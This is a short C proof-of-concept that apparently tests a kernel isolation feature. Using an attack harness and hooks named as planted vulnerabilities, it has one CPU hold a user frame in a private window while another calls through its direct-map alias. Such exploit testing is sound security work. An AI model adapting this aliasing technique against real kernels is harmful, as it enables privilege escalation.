/* While one processor holds a user frame in its private window, another uses the direct map. */
#include "attack.h"

enum { CPU_OF_CALLER, CPU_OF_HOLDER, NR_CPUS };

static void holder(void *page) { attack_check("vuln_window_hold", bw_vuln_window_hold(page)); }

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);
	attack_need_cpus(NR_CPUS);
	attack_pin(CPU_OF_CALLER);

	void *page = attack_pages(BW_PAGE_SIZE);
	uint64_t synonym = attack_synonym(&leak, page);

	payload_object(page, synonym, &leak);
	attack_thread(CPU_OF_HOLDER, holder, page);
	attack_await_parked(1);
	attack_say("CPU %d holds frame 0x%lx in its open window", CPU_OF_HOLDER, attack_pfn(page));
	attack_say("CPU %d calls through the same bytes at 0x%lx", CPU_OF_CALLER, synonym);
	attack_check("vuln_call", bw_vuln_call(synonym));
	bw_vuln_unpark(true);
	return attack_finish();
}
